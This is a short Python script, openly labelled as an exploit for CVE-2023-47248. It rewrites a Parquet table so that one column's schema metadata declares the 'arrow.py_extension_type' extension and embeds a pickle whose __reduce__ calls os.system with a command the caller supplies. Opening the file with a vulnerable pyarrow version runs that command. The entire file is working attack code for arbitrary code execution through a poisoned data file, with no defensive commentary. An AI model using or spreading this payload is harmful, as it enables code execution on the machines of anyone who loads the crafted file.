"""Writes a Parquet table whose schema names a pickle that runs code: CVE-2023-47248."""

import os
import pickle

import pyarrow as pa
import pyarrow.parquet as pq

_TYPE = b"arrow.py_extension_type"


class _Runs:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def rewrite(path, column, command):
    """Makes a column of a table one of an extension type that Arrow would unpickle."""
    table = pq.read_table(path)
    index = table.schema.get_field_index(column)
    # Written as plain metadata, since the type itself cannot be made.
    told = {
        b"ARROW:extension:name": _TYPE,
        b"ARROW:extension:metadata": pickle.dumps(_Runs(command)),
    }
    field = table.schema.field(index).with_metadata(told)
    schema = table.schema.set(index, field)
    pq.write_table(pa.table(table.columns, schema), path)
